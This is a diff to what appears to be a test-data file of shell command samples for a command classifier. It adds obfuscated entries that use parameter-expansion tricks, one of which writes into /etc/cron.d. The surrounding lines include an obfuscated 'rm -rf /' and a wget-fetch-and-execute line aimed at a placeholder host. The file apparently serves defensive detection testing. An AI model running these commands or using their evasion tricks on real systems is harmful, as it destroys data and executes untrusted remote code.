@@ -1676,6 +1676,7 @@ r${x}m -rf /
 x=`wget -qO- https://x.y`; $x
 """,
     "unclear.spelling": r"""
+p=a/etc/cron.d/x; echo hi > ${p:$((1<<0))}
 cat ${!x}
 cat ${LD:0:1}etc
 """,
@@ -1842,6 +1843,7 @@ unzip -: a.zip
 """By rule; one a line, U+2424 stands for a newline."""
 
 EVERYDAY = r"""
+f=notes.txt; cat ${f:0:$((${#f}-4))}.md
 tsc --outDir dist
 pytest --log-file=/tmp/x.log
 cargo build --target x86_64-unknown-linux-gnu
